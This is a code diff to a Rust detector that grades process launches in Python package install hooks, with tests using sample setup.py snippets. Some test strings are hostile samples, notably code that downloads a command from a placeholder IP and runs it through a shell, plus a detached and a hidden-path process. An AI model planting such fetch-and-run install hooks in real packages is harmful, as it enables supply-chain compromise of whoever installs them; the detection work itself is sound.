@@ -14,8 +14,10 @@ pub static INFO: RuleInfo = RuleInfo {
     summary: "A process is spawned at install time (setup.py, build backend, .pth)",
     help: "Reports subprocess/os.system/os.popen/exec*/spawn* calls in code that runs while the \
            package is installed: setup.py (top level, helpers and cmdclass run() overrides), \
-           in-tree build backends and .pth files. Build tools (compilers, git, cmake, make, \
-           pkg-config, the running Python) are reported as info; other commands as medium; \
+           in-tree build backends and .pth files. Build and packaging tools (compilers, git, \
+           cmake, make, ninja, pkg-config, the running Python, twine, pip) are reported as info; \
+           commands held in variables that cannot be resolved statically (compiler probes \
+           such as `cxx + ['-x', 'c++']`) as low; other constant commands as medium; \
            commands that fetch or run remote content, shells with inline scripts, hidden or \
            detached processes, and commands built from decoded data as high. Installing a \
            package should not need to run arbitrary programs.",
@@ -94,6 +96,14 @@ const BUILD_TOOLS: &[&str] = &[
     "mvn",
     "lipo",
     "sphinx-build",
+    "twine",
+    "pip",
+    "pip3",
+    "tox",
+    "nox",
+    "hatch",
+    "flit",
+    "poetry",
 ];
 
 const HOSTILE: &[&str] = &[
@@ -144,7 +154,13 @@ pub fn classify(cmd: &str) -> u8 {
     {
         return 2;
     }
-    if BUILD_TOOLS.contains(&base) || first == "sys.executable" || base.starts_with("python3.") {
+    // `pkg_config = os.environ.get('PKG_CONFIG', 'pkg-config')` keeps its variable name.
+    let tool = base.replace('_', "-");
+    if BUILD_TOOLS.contains(&base)
+        || BUILD_TOOLS.contains(&tool.as_str())
+        || first == "sys.executable"
+        || base.starts_with("python3.")
+    {
         // A build tool fetching from the network (`git clone https://...`) is worth a look.
         return u8::from(url);
     }
@@ -177,13 +193,24 @@ pub fn check(cx: &FileCx<'_>, out: &mut Emitter<'_>) {
             Some(cmd) => classify(cmd),
             None => 1,
         };
+        // The command is only partly known when its first argument did not fold to a
+        // constant: a variable (`args`, `[pkg_config, option]`), `cxx + [...]`. Such
+        // commands are how setup.py probes compilers and pkg-config; a hostile one shows up
+        // as a hostile word, a URL, taint or detaching, which are graded high regardless.
+        let resolved = c
+            .args
+            .first()
+            .or_else(|| c.kw("args"))
+            .is_some_and(|a| a.folded.is_some());
         let tainted = c.arg_taint() & (DECODED | NET) != 0 || c.note.is_some();
         let (sev, what) = if tainted || class == 2 || hidden {
             (Severity::High, "a suspicious process")
-        } else if class == 1 {
-            (Severity::Medium, "a process")
-        } else {
+        } else if class == 0 {
             (Severity::Info, "a build tool")
+        } else if !resolved {
+            (Severity::Low, "a process (command not statically known)")
+        } else {
+            (Severity::Medium, "a process")
         };
         let shown = cmd
             .as_deref()
@@ -237,5 +264,41 @@ mod tests {
         assert_eq!(classify("git clone https://example.invalid/dep.git"), 1);
         assert_eq!(classify("/tmp/x https://example.invalid/a"), 2);
         assert_eq!(classify("chmod +x configure"), 1);
+    }
+
+    #[test]
+    fn cffi_pillow_grpcio_requests_build_probes_are_not_medium() {
+        let cffi = "import os, subprocess\ndef _ask_pkg_config(option):\n    pkg_config = os.environ.get('PKG_CONFIG','pkg-config')\n    p = subprocess.Popen([pkg_config, option, 'libffi'], stdout=subprocess.PIPE)\n";
+        let pillow = "import subprocess\ndef f(ldconfig):\n    args = [ldconfig, '-p']\n    p = subprocess.Popen(args, stdout=subprocess.PIPE, text=True)\n";
+        let grpc = "import os, shlex, subprocess\nfrom subprocess import PIPE\ndef check():\n    cxx = shlex.split(os.environ.get('CXX', 'c++'))\n    cpp_test = subprocess.Popen(cxx + ['-x', 'c++', '-std=c++14', '-'], stdin=PIPE, stdout=PIPE, stderr=PIPE)\n";
+        let requests = "import os, sys\nif sys.argv[-1] == 'publish':\n    os.system('python setup.py sdist bdist_wheel')\n    os.system('twine upload dist/*')\n    sys.exit()\n";
+        for src in [cffi, pillow, grpc, requests] {
+            let sev = worst("install-hook-process", "pkg-1.0/setup.py", src);
+            assert!(sev.is_some_and(|s| s <= Severity::Low), "{sev:?}: {src}");
+        }
+    }
+
+    #[test]
+    fn unknown_constant_or_hostile_commands_stay_graded() {
+        let unknown = "import subprocess\nsubprocess.call(['/tmp/.x/agent', '--quiet'])\n";
+        assert_eq!(
+            worst("install-hook-process", "pkg-1.0/setup.py", unknown),
+            Some(Severity::Medium)
+        );
+        // A variable command that is detached or built from fetched data is still high.
+        let detached =
+            "import subprocess\ndef f(cmd):\n    subprocess.Popen(cmd, start_new_session=True)\n";
+        assert_eq!(
+            worst("install-hook-process", "pkg-1.0/setup.py", detached),
+            Some(Severity::High)
+        );
+        let fetched = "import subprocess, urllib.request\ncmd = urllib.request.urlopen('http://192.0.2.1/c').read().decode()\nsubprocess.call(cmd, shell=True)\n";
+        assert_eq!(
+            worst("install-hook-process", "pkg-1.0/setup.py", fetched),
+            Some(Severity::High)
+        );
+        assert_eq!(classify("pkg_config --libs libffi"), 0);
+        assert_eq!(classify("twine upload dist/*"), 0);
+        assert_eq!(classify("wget_tool http://192.0.2.1/x"), 2);
     }
 }
